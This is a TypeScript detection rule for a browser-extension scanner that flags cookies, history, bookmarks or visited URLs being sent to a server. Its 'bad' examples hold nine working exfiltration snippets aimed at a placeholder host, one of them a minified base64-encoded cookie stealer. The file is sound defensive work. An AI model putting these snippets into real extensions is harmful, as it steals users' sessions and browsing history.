import { flowsOf } from '../../flows/flowsOf.ts';
import { hitsOfFlows, milder, sentence, staysHere, type Weight } from '../../flows/hits.ts';
import type { Severity } from '../../../model/finding.ts';
import type { Flow } from '../../flows/flow.ts';
import type { SourceKind } from '../../flows/kinds.ts';
import { sample } from '../../flows/sample.ts';
import { defineRule } from '../../rule.ts';

const SEVERITY: Partial<Record<SourceKind, Severity>> = {
  cookies: 'high', history: 'high', bookmarks: 'high', 'browsing-data': 'medium', downloads: 'medium', management: 'medium', tabs: 'medium', navigation: 'medium', 'page-address': 'medium',
};

function weigh(flow: Flow): Weight | undefined {
  const { source, sink, unit } = flow;
  const severity = SEVERITY[source.kind];
  if (sink.kind !== 'network' || severity === undefined || staysHere(sink.to)) return undefined;
  // What a person asks for in the popup is not done behind their back.
  const asked = (unit.roles.has('popup') && !unit.roles.has('background')) || (source.unit.roles.has('popup') && !source.unit.roles.has('background'));
  const known = sink.to !== undefined && /^(?:https?|wss?):\/\/[^*/]+/.test(sink.to);
  const mild = asked && severity !== 'high' ? 'low' : asked ? milder(severity) : severity;
  return { severity: flow.checked ? milder(mild) : mild, confidence: flow.stored || !known ? 'medium' : 'high', message: sentence(flow, known ? sink.to : undefined) };
}

export default defineRule({
  id: 'browsing-data-to-network',
  title: 'Sends browsing data to a server',
  severity: 'high',
  confidence: 'high',
  category: 'flows',
  applies: 'extension',
  cwe: 'CWE-359',
  why: 'Cookies, history, bookmarks or addresses of visited pages leave the browser. They tell what a person does, and cookies let others sign in as them.',
  remedy: 'Send nothing that is not needed for what the person asked, ask first, and say so in the privacy policy. Never send cookies.',
  check: (facts) => hitsOfFlows(facts.whole(flowsOf).flows, weigh),
  examples: {
    bad: [
      sample({ background: 'chrome.cookies.getAll({}, (all) => { fetch("https://collect.example/c", { method: "POST", body: JSON.stringify(all) }); });' }),
      sample({ background: 'chrome.tabs.onUpdated.addListener((id, info, tab) => { navigator.sendBeacon("https://collect.example/v", tab.url); });' }),
      sample({ background: 'chrome.history.search({ text: "", maxResults: 1000 }).then(upload); async function upload(items) { const body = new FormData(); body.append("h", JSON.stringify(items)); await fetch("https://collect.example/h", { method: "POST", body }); }' }),
      sample({ background: 'chrome.webRequest.onCompleted.addListener(function (d) { var x = new XMLHttpRequest(); x.open("POST", "https://collect.example/r"); x.send("u=" + encodeURIComponent(d.url)); }, { urls: ["<all_urls>"] });' }),
      sample({ background: 'import api from "webextension-polyfill"; const all = []; api.bookmarks.getTree().then((t) => all.push(t)); setInterval(() => { $.post("https://collect.example/b", { all: JSON.stringify(all) }); }, 60000);' }),
      sample({ content: 'new Image().src = "https://collect.example/p.gif?u=" + encodeURIComponent(location.href);' }),
      sample({ background: 'var n=chrome,r=n.cookies;function o(t){var e=btoa(JSON.stringify(t));fetch("https://collect.example/?d="+e)}r.getAll({},(function(t){o(t)}));' }),
      sample({ background: 'class Api { constructor(u) { this.u = u; } send(data) { return fetch(this.u, { method: "POST", body: data }); } } const api = new Api("https://collect.example"); chrome.webNavigation.onCommitted.addListener((d) => { const { url } = d; api.send(JSON.stringify({ url, at: 1 })); });' }),
      sample({ content: 'chrome.runtime.sendMessage({ t: "visit", u: document.URL });', background: 'const ws = new WebSocket("wss://collect.example"); chrome.runtime.onMessage.addListener((m) => { if (m.t === "visit") ws.send(m.u); });' }),
    ],
    good: [
      sample({ background: 'chrome.cookies.getAll({}, (all) => { console.log(all.length); fetch("https://api.example/ping"); });' }),
      sample({ background: 'chrome.tabs.query({}, (tabs) => { fetch("https://api.example/count?n=" + tabs.length); });' }),
      sample({ background: 'chrome.tabs.onUpdated.addListener((id, info, tab) => { if (tab.url === "https://app.example/") fetch("https://api.example/seen"); });' }),
      sample({ background: 'chrome.history.search({ text: "" }, (h) => chrome.storage.local.set({ h }));' }),
      sample({ background: 'chrome.cookies.getAll({}, (all) => fetch("http://127.0.0.1:9000/", { method: "POST", body: JSON.stringify(all) }));' }),
      sample({ background: 'const log = (x) => fetch("https://api.example/log", { method: "POST", body: x }); const show = (x) => x; chrome.tabs.query({}, (t) => show(t[0].url)); log("started");' }),
    ],
  },
});
